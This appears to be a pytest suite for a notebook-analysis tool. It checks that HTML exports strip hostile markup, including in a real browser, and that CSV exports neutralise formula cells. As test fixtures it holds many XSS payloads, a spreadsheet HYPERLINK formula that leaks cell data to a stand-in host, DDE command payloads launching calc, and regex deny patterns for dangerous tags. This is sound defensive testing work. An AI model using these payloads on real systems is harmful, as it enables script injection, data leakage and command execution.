"""Exports leak nothing: an exported notebook keeps no hostile HTML, loads nothing and goes
nowhere (checked in real Chromium); every CSV cell that a spreadsheet would run is neutralised."""
from __future__ import annotations

import csv
import io
import json
import re

import nbformat
import pytest
from click.testing import CliRunner
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from workbench.cli import main

OUT = "http://example.invalid"
MARK = "window.__xss=(window.__xss||0)+1"
HOSTILE_HTML = [
    f'<meta http-equiv="refresh" content="0;url={OUT}/refresh">',
    f"<script>{MARK}</script>",
    f'<script src="{OUT}/remote.js"></script>',
    f'<img src="{OUT}/pixel.png" alt="pixel">',
    f'<img srcset="{OUT}/set.png 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    f'<iframe src="{OUT}/frame"></iframe>',
    f'<a href="javascript:{MARK}">js link</a>',
    f'<base href="{OUT}/base/">',
    f'<link rel="stylesheet" href="{OUT}/style.css">',
    f'<link rel="prefetch" href="{OUT}/prefetch">',
    f'<svg onload="{MARK}"><image href="{OUT}/svg.png"/></svg>',
    f'<object data="{OUT}/object"></object><embed src="{OUT}/embed">',
    f'<form action="{OUT}/form"><input type="submit" autofocus onfocus="{MARK}"></form>',
    f'<video src="{OUT}/video.mp4" autoplay poster="{OUT}/poster.png"></video>',
    f'<audio src="{OUT}/audio.mp3" autoplay></audio>',
    f'<div style="background:url({OUT}/bg.png)" onmouseover="{MARK}">styled div</div>',
    f"<style>@import url({OUT}/import.css); body {{ background: url({OUT}/body.png) }}</style>",
    f'<a href="data:text/html,<script>{MARK}</script>">data link</a>',
    f'<details open ontoggle="{MARK}"><summary>sum</summary>detail text</details>',
]
KEPT_TEXT = ["js link", "styled div", "detail text", "hostile heading"]


def hostile_notebook(static_views: list[str] | None = None):
    """Markdown cells, raw cells and every kind of output carrying the hostile HTML."""
    html = "\n".join(HOSTILE_HTML)
    cells = [
        new_markdown_cell("# hostile heading\n\n" + html + f"\n\n![remote image]({OUT}/md.png)\n\n"
                          f"[a source]({OUT}/source)"),
        new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
        new_code_cell("show()", outputs=[
            new_output("display_data", data={"text/html": html, "text/plain": "plain"}),
            new_output("execute_result", data={"text/markdown": html, "text/plain": "md"}, execution_count=1),
            new_output("display_data", data={"application/javascript": MARK, "text/plain": "js"}),
            new_output("display_data", data={"text/vnd.mermaid": html, "text/plain": "diagram"}),
            new_output("display_data", data={"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}">'
                                                              f'<image href="{OUT}/in-svg.png"/></svg>'}),
            new_output("display_data", data={"application/vnd.jupyter.widget-view+json": {"model_id": "x"},
                                              "text/html": html}),
        ]),
    ]
    for view in static_views or []:
        cells.append(new_code_cell("widget", outputs=[new_output("display_data", data={
            "application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2, "version_minor": 0},
            "text/html": view, "text/plain": "widget"})]))
    nb = new_notebook(cells=cells)
    nb.metadata["title"] = f"</title><script>{MARK}</script>"
    return nb


def export(tmp_path, nb, name="hostile"):
    source = tmp_path / f"{name}.ipynb"
    nbformat.write(nb, source)
    target = tmp_path / f"{name}.html"
    result = CliRunner().invoke(main, ["export-notebook", str(source), "-o", str(target)])
    assert result.exit_code == 0, result.output
    return target


def body_of(page: str) -> str:
    return page[page.index("<body"):]


def test_exported_notebook_keeps_no_hostile_html(tmp_path):
    from workbench.render.assets import content_security_policy

    page = export(tmp_path, hostile_notebook()).read_text(encoding="utf-8")
    body = body_of(page)
    for bad in (r"<script", r"<iframe", r"<object", r"<embed", r"<base\b", r"<link\b", r"<meta\b", r"<form",
                r"<video", r"<audio", r"<svg", r"\son\w+\s*=", r"javascript:", r"srcset", r"data:text/html",
                r'src="http', r'class="jp-Mermaid'):
        assert not re.search(bad, body, re.I), (bad, re.search(bad, body, re.I))
    # the one remote address left is a link the reader may click; nothing loads it
    assert re.findall(r'(?:src|href|action|data|poster|content)="(' + OUT + r'[^"]*)"', page) == [f"{OUT}/source"]
    assert f'<a href="{OUT}/source" rel="noopener noreferrer">a source</a>' in body
    for text in KEPT_TEXT:
        assert text in body
    # the report's own strict policy, with no script allowed at all
    csp = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert csp == [content_security_policy(None)]
    assert "script-src 'none'" in csp[0] and "default-src 'none'" in csp[0]
    head = page[:page.index("</head>")]
    assert head.index("Content-Security-Policy") < min(head.index("<style"), head.index("<title>"))
    assert '<meta name="referrer" content="no-referrer">' in head
    assert "&lt;/title&gt;&lt;script&gt;" in head


@pytest.fixture
def static_views(ws):
    import workbench as wb
    from workbench.demo import build_demo

    _, an = build_demo(ws, progress=False)
    an.add_hypothesis('<img src=x onerror="window.__xss=1"> hypothesis')
    ws.relabel_entity("Alexander Lukashenko", "STRONGMAN")        # an analyst's own label, with its own colour
    views = [w._repr_mimebundle_()[0]["text/html"] for w in
             (wb.Matrix(an), wb.Reader(ws, analysis=an), wb.CorpusBrowser(ws), wb.EntityExplorer(ws), wb.Workbench(ws, an))]
    return views + [ws.articles.head(3)._repr_html_()]


def test_workbench_static_views_survive_the_sanitiser(tmp_path, static_views):
    from workbench.render import css_class as label_class

    page = export(tmp_path, hostile_notebook(static_views)).read_text(encoding="utf-8")
    body, head = body_of(page), page[:page.index("<body")]
    for css_class in ("wb-matrix-static", "wb-reader-static", "wb-corpus-static", "wb-entities-static",
                      "wb-workbench-static", "dataframe"):
        assert re.search(r'class="(?:[^"]* )?' + css_class + r'[ "]', body), css_class
    marks = re.findall(r'<mark class="wb-ent[^"]*"[^>]*data-label="(\w+)"', body)
    assert {"PERSON", "GPE"} <= set(marks)
    assert "STRONGMAN" in marks
    # no CSS from the notebook; the views' own CSS once, from the package, in the head
    assert "<style" not in body and "@import" not in page and "example.invalid/body.png" not in page
    css = re.findall(r'<style class="wb-export-css">(.*?)</style>', head, re.S)
    assert len(css) == 1 and ".wb-ent {" in css[0] and f".{label_class('STRONGMAN')}{{--wb-c:" in css[0]
    assert "&lt;img src=x onerror=" in body                     # escaped by the widget, kept as text
    assert 'style="text-align:right"' in body                   # pandas' own style attribute, filtered


@pytest.mark.browser
def test_exported_hostile_notebook_in_chromium_loads_nothing_and_stays_put(page, tmp_path, static_views):
    target = export(tmp_path, hostile_notebook(static_views))
    url = target.as_uri()
    navigations = []
    page.on("framenavigated", lambda frame: navigations.append(frame.url))
    page.goto(url)
    page.wait_for_load_state("load")
    page.wait_for_timeout(2_500)       # a 0-second refresh would have left by now
    page.mouse.move(300, 300)
    page.keyboard.press("Tab")
    page.wait_for_timeout(300)
    assert page.requests == [url]
    assert page.url == url and navigations == [url]
    assert page.evaluate("window.__xss || 0") == 0 and page.dialogs == []
    assert page.locator("script, iframe, object, embed, base, form, meta[http-equiv=refresh], link").count() == 0
    assert page.locator(".wb-workbench-static").count() == 1 and page.locator(".wb-matrix-static").count() == 2
    assert page.locator(".wb-reader-static").count() >= 1
    # the highlights are painted by the package's CSS (a background colour, not transparent)
    for label in ("PERSON", "STRONGMAN"):
        mark = page.locator(f'mark.wb-ent[data-label="{label}"]').first
        assert mark.evaluate("el => getComputedStyle(el).backgroundColor") not in ("rgba(0, 0, 0, 0)", "transparent")
    text = page.locator("body").inner_text()
    for kept in KEPT_TEXT:
        assert kept in text


# -- CSV ----------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'
RISKY = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
         "\t=1+1", "\r=1+1"]


def test_csv_helper_neutralises_only_risky_text():
    import pandas as pd

    from workbench.analysis.csv_safe import neutralise, safe_csv

    for cell in RISKY:
        assert neutralise(cell) == "'" + cell
    for cell in ("Minsk", "", " =x", "'=x", "a=b", "1-2", None, 7, -7.0, -3):
        assert neutralise(cell) == cell
    frame = pd.DataFrame({"title": RISKY + ["-7.00"], "delta": [-7.0, -1.5, 0.0, 2.0, -3.25, 1.0, -7.0],
                          "start": [-1, 2, 3, 4, 5, 6, 7], FORMULA: ["x"] * 7})
    rows = list(csv.reader(io.StringIO(safe_csv(frame))))
    assert rows[0] == ["title", "delta", "start", "'" + FORMULA]
    assert [r[0] for r in rows[1:]] == ["'" + c for c in RISKY] + ["'-7.00"]     # text: always
    assert [r[1] for r in rows[1:]] == ["-7.0", "-1.5", "0.0", "2.0", "-3.25", "1.0", "-7.0"]  # numbers: never
    assert [r[2] for r in rows[1:]] == ["-1", "2", "3", "4", "5", "6", "7"]


def _first_cell_risky(rows):
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_every_csv_the_workbench_writes_is_neutralised(ws, tmp_path):
    docs = [{"title": title, "text": f"Vladimir Putin met Alexander Lukashenko in Minsk. Item {i}: {title} "
                                      f"with extra words {'alpha beta gamma delta' * (i + 1)}.",
             "outlet": RISKY[(i + 1) % len(RISKY)], "url": f"https://hostile.test/{i}"}
            for i, title in enumerate(RISKY)]
    (tmp_path / "hostile.json").write_text(json.dumps(docs), encoding="utf-8")
    assert ws.ingest(tmp_path / "hostile.json", progress=False).ok
    an = ws.new_analysis("Which =formula wins?", [FORMULA, "@SUM(1)", "plain"])
    first = ws.articles["id"][0]
    an.tag_quote(first, "Vladimir Putin met", ratings={FORMULA: "C", "@SUM(1)": "I", "plain": "N"},
                 note="+note")
    an.add_assumption("-2+3 assumption", ratings={FORMULA: "I"})
    ws_path = ws.location
    stored_titles = list(ws.articles["title"])
    ws.close()

    outputs = {}
    for what in ("articles", "entities"):
        result = CliRunner().invoke(main, [what, "--workspace", str(ws_path), "--format", "csv"])
        assert result.exit_code == 0, result.output
        outputs[what] = list(csv.reader(io.StringIO(result.output)))
    out = tmp_path / "matrix.csv"
    result = CliRunner().invoke(main, ["analysis", "export", "--workspace", str(ws_path), "--analysis", an.id,
                                       "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    outputs["matrix"] = list(csv.reader(out.open(encoding="utf-8", newline="")))

    for name, rows in outputs.items():
        assert _first_cell_risky(rows) == [], name
    titles = [r[1] for r in outputs["articles"][1:]]
    assert sorted(titles) == sorted("'" + t for t in stored_titles)
    assert "'" + FORMULA in titles
    header = outputs["matrix"][0]
    assert "'" + FORMULA in header and "'@SUM(1)" in header and "plain" in header
    texts = {r[2] for r in outputs["matrix"][1:]}
    assert "'-2+3 assumption" in texts
    # numbers stay numbers: offsets and weights parse back as they were written
    entities = outputs["entities"]
    start = entities[0].index("start")
    assert all(re.fullmatch(r"\d+", r[start]) for r in entities[1:])
    weight = header.index("weight")
    assert all(float(r[weight]) > 0 for r in outputs["matrix"][1:])
